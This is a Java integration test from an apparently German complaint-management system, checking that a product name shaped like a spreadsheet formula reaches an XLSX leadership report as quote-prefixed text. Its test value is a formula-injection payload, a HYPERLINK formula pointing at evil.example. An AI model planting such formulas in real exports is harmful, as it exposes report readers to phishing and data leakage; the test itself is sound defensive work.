package de.kundenstimme.reporting.boundary;

import de.kundenstimme.testing.Api;
import de.kundenstimme.testing.Deployments;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.io.ByteArrayInputStream;
import java.net.URL;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.time.LocalDate;
import java.time.ZoneId;

import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.capture;
import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.captured;
import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.unique;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** A product name that looks like a formula reaches the leadership report's XLSX as marked text. */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class ReportFormulaInjectionIT {

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.builtWar();
    }

    @ArquillianResource
    URL base;

    @Test
    void aFormulaLikeNameInTheWorkbookIsQuotedText() throws Exception {
        String code = "F" + unique().substring(0, 10).toUpperCase();
        String name = "=HYPERLINK(\"http://evil.example/?" + code + "\",\"Bericht öffnen\")";
        // Products are kept by the admin in the database; none comes through the API.
        try (Connection db = DriverManager.getConnection(System.getProperty("db.url"), System.getProperty("db.user"),
                System.getProperty("db.password"));
             PreparedStatement insert = db.prepareStatement("insert into product (code, name) values (?, ?)")) {
            insert.setString(1, code);
            insert.setString(2, name);
            insert.executeUpdate();
        }
        captured(Api.as(base, "handler.service"), capture("Formel im Produkt").add("productCode", code));
        LocalDate today = LocalDate.now(ZoneId.of("Europe/Berlin"));
        Api executive = Api.as(base, "executive");

        byte[] xlsx = ReportRuns.download(executive, ReportRuns.finished(executive, today.withDayOfMonth(1), today), "xlsx");

        try (Workbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Cell product = null;
            for (Row row : workbook.getSheet("Produkt")) {
                Cell first = row.getCell(0);
                if (first != null && first.getCellType() == CellType.STRING && first.getStringCellValue().contains(code)) {
                    product = first;
                }
            }
            assertTrue(product != null, "the product has its row");
            assertEquals(name, product.getStringCellValue(), "exactly as named");
            assertTrue(product.getCellStyle().getQuotePrefixed(), "marked as text: no spreadsheet evaluates it");
        }
    }
}
